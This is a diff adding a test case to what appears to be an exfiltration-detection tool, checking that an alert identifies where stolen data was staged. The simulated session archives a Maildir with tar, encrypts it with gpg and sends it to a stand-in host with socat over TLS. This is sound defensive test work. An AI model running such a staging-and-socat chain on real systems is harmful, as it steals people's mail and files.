@@ -49,6 +49,22 @@ test('what went straight from the reader to the wire was staged nowhere, whateve
   assert.equal(staged(alert), '/home/clerk/papers/a.eml');
 });
 
+test('what a program had open before it wrote what left is its own: the file by which it left is the stage', async () => {
+  const alerts = await done((shell, a) => {
+    const gpg = shell.run('/usr/bin/gpg --homedir /tmp -e -r x');
+    gpg.write('/tmp/.#lk0x1f.ws1.77').write('/tmp/pubring.kbx');
+    shell.run('/usr/bin/tar cf - Maildir').read(a);
+    gpg.write('/var/tmp/private.log');
+    shell
+      .run('/usr/bin/socat -u FILE:/var/tmp/private.log OPENSSL:drop.example.net:443')
+      .read('/var/tmp/private.log')
+      .connect('203.0.113.66', 443);
+  });
+  const alert = firesAt(alerts, 'AN1310', 'medium');
+  assert.match(alert.story, /with tar, staged it in \/var\/tmp\/private\.log and sent it out with socat/);
+  assert.equal(staged(alert), '/var/tmp/private.log');
+});
+
 test('where nothing left, the story names the one who made the copy', async () => {
   const alerts = await done((shell, a) => {
     shell.run(`/usr/bin/grep -l part ${a}`).read(a);
